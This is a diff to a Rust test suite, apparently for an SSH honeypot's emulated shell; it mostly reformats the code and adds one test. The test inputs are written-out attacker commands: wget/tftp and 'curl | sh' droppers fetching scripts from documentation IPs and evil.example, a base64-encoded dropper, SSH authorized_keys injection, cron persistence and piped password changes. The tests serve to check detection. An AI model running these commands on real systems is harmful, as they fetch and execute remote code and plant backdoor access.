@@ -22,19 +22,31 @@ fn every_line_runs_without_a_parse_error() {
             let r = common::exec(&host, &line);
             assert!(r.status.is_some(), "{distro}: {line:?} did not finish");
             for text in [&r.stdout, &r.stderr] {
-                assert!(!text.contains("syntax error"), "{distro}: {line:?} failed to parse: {text}");
+                assert!(
+                    !text.contains("syntax error"),
+                    "{distro}: {line:?} failed to parse: {text}"
+                );
             }
-            assert!(r.stdout.len() + r.stderr.len() < 2 << 20, "{distro}: {line:?} output unbounded");
-            assert!(matches!(r.events.first(), Some(ShellEvent::Command { .. })), "{distro}: {line:?} has no command event");
+            assert!(
+                r.stdout.len() + r.stderr.len() < 2 << 20,
+                "{distro}: {line:?} output unbounded"
+            );
+            assert!(
+                matches!(r.events.first(), Some(ShellEvent::Command { .. })),
+                "{distro}: {line:?} has no command event"
+            );
         }
     }
 }
 
 fn downloads(events: &[ShellEvent]) -> Vec<String> {
-    events.iter().filter_map(|e| match e {
-        ShellEvent::Download { url, .. } => Some(url.clone()),
-        _ => None,
-    }).collect()
+    events
+        .iter()
+        .filter_map(|e| match e {
+            ShellEvent::Download { url, .. } => Some(url.clone()),
+            _ => None,
+        })
+        .collect()
 }
 
 fn captured<'a>(events: &'a [ShellEvent], path: &str) -> Option<&'a [u8]> {
@@ -47,19 +59,43 @@ fn captured<'a>(events: &'a [ShellEvent], path: &str) -> Option<&'a [u8]> {
 #[test]
 fn dropper_urls_are_logged_and_fail_like_no_route() {
     let host = common::host("debian");
-    let r = common::exec(&host, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh");
-    assert_eq!(downloads(&r.events), ["http://192.0.2.10/bins.sh", "tftp://192.0.2.10/tftp1.sh"]);
-    assert!(r.stderr.contains("Connecting to 192.0.2.10:80... failed: No route to host."), "{}", r.stderr);
-    assert!(r.stderr.contains("sh: bins.sh: No such file or directory"), "{}", r.stderr);
+    let r = common::exec(
+        &host,
+        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh",
+    );
+    assert_eq!(
+        downloads(&r.events),
+        ["http://192.0.2.10/bins.sh", "tftp://192.0.2.10/tftp1.sh"]
+    );
+    assert!(
+        r.stderr
+            .contains("Connecting to 192.0.2.10:80... failed: No route to host."),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains("sh: bins.sh: No such file or directory"),
+        "{}",
+        r.stderr
+    );
 
     let r = common::exec(&host, "curl -s http://192.0.2.44/mine.sh | sh; echo $?");
     assert_eq!(downloads(&r.events), ["http://192.0.2.44/mine.sh"]);
     let r = common::exec(&host, "curl http://evil.example/x");
     assert_eq!(r.status, Some(6));
-    assert!(r.stderr.contains("curl: (6) Could not resolve host: evil.example"), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("curl: (6) Could not resolve host: evil.example"),
+        "{}",
+        r.stderr
+    );
     let r = common::exec(&host, "curl -o /tmp/x http://192.0.2.5:8080/x");
     assert_eq!(r.status, Some(7));
-    assert!(r.stderr.contains("curl: (7) Failed to connect to 192.0.2.5 port 8080 after"), "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("curl: (7) Failed to connect to 192.0.2.5 port 8080 after"),
+        "{}",
+        r.stderr
+    );
 
     // A base64-encoded dropper still reaches the download tool.
     let r = common::exec(&host, "echo \"d2dldCBodHRwOi8vMTkyLjAuMi45L3Iuc2g=\" | base64 -d | sh");
@@ -69,7 +105,10 @@ fn dropper_urls_are_logged_and_fail_like_no_route() {
 #[test]
 fn ssh_key_injection_is_captured() {
     let host = common::host("debian");
-    let r = common::exec(&host, "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCuhZ3nFw0hP1 mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~");
+    let r = common::exec(
+        &host,
+        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCuhZ3nFw0hP1 mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
+    );
     assert_eq!(r.status, Some(0), "{}", r.stderr);
     let data = captured(&r.events, "/root/.ssh/authorized_keys").expect("authorized_keys captured");
     assert_eq!(data, b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCuhZ3nFw0hP1 mdrfckr\n");
@@ -83,7 +122,10 @@ fn ssh_key_injection_is_captured() {
 #[test]
 fn base64_upload_is_captured_and_runs() {
     let host = common::host("debian");
-    let r = common::exec(&host, "echo \"IyEvYmluL3NoCmVjaG8gcHduZWQK\" | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x");
+    let r = common::exec(
+        &host,
+        "echo \"IyEvYmluL3NoCmVjaG8gcHduZWQK\" | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
+    );
     assert_eq!(captured(&r.events, "/tmp/.x"), Some(&b"#!/bin/sh\necho pwned\n"[..]));
     assert_eq!(r.stdout, "pwned\n");
     assert_eq!(r.status, Some(0));
@@ -92,15 +134,24 @@ fn base64_upload_is_captured_and_runs() {
 #[test]
 fn heredoc_upload_is_captured() {
     let host = common::host("debian");
-    let r = common::exec(&host, "cat > /tmp/run.sh << 'EOF'\n#!/bin/sh\nwget http://192.0.2.4/p -O /tmp/p\nEOF\nchmod +x /tmp/run.sh; /tmp/run.sh");
-    assert_eq!(captured(&r.events, "/tmp/run.sh"), Some(&b"#!/bin/sh\nwget http://192.0.2.4/p -O /tmp/p\n"[..]));
+    let r = common::exec(
+        &host,
+        "cat > /tmp/run.sh << 'EOF'\n#!/bin/sh\nwget http://192.0.2.4/p -O /tmp/p\nEOF\nchmod +x /tmp/run.sh; /tmp/run.sh",
+    );
+    assert_eq!(
+        captured(&r.events, "/tmp/run.sh"),
+        Some(&b"#!/bin/sh\nwget http://192.0.2.4/p -O /tmp/p\n"[..])
+    );
     assert_eq!(downloads(&r.events), ["http://192.0.2.4/p"]);
 }
 
 #[test]
 fn crontab_persistence_is_captured() {
     let host = common::host("debian");
-    let r = common::exec(&host, "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://192.0.2.8/c.sh | sh\") | crontab -; crontab -l");
+    let r = common::exec(
+        &host,
+        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://192.0.2.8/c.sh | sh\") | crontab -; crontab -l",
+    );
     assert_eq!(r.stdout, "*/5 * * * * curl -fsSL http://192.0.2.8/c.sh | sh\n");
     assert!(captured(&r.events, "/var/spool/cron/crontabs/root").is_some());
     let centos = common::host("centos7");
@@ -112,13 +163,21 @@ fn crontab_persistence_is_captured() {
 fn piped_passwords_are_logged() {
     let host = common::host("debian");
     let r = common::exec(&host, "echo -e \"P4ssw0rd\\nP4ssw0rd\" | passwd");
-    let passwords: Vec<&str> = r.events.iter().filter_map(|e| match e {
-        ShellEvent::Password { password, .. } => Some(password.as_str()),
-        _ => None,
-    }).collect();
+    let passwords: Vec<&str> = r
+        .events
+        .iter()
+        .filter_map(|e| match e {
+            ShellEvent::Password { password, .. } => Some(password.as_str()),
+            _ => None,
+        })
+        .collect();
     assert_eq!(passwords, ["P4ssw0rd"]);
     let r = common::exec(&host, "echo 'root:hunter2' | chpasswd");
-    assert!(r.events.iter().any(|e| matches!(e, ShellEvent::Password { user, password, .. } if user == "root" && password == "hunter2")));
+    assert!(
+        r.events.iter().any(
+            |e| matches!(e, ShellEvent::Password { user, password, .. } if user == "root" && password == "hunter2")
+        )
+    );
 }
 
 #[test]
@@ -128,4 +187,21 @@ fn sudo_with_a_piped_password() {
     assert_eq!(r.stdout, "0\n");
     assert_eq!(r.stderr, "[sudo] password for admin: ");
     assert!(r.events.iter().any(|e| matches!(e, ShellEvent::Password { tool, password, accepted: true, .. } if tool == "sudo" && password == "admin123")));
+}
+
+#[test]
+fn download_failures_follow_the_distro_tools() {
+    let alpine = common::host("alpine");
+    let r = common::exec(&alpine, "wget http://192.0.2.10/x");
+    assert_eq!(
+        r.stderr,
+        "Connecting to 192.0.2.10 (192.0.2.10:80)\nwget: can't connect to remote host (192.0.2.10): No route to host\n"
+    );
+    assert_eq!(r.status, Some(1));
+    let centos = common::host("centos7");
+    let r = common::exec(&centos, "curl -s -S http://192.0.2.10:81/x");
+    assert_eq!(
+        r.stderr,
+        "curl: (7) Failed connect to 192.0.2.10:81; No route to host\n"
+    );
 }
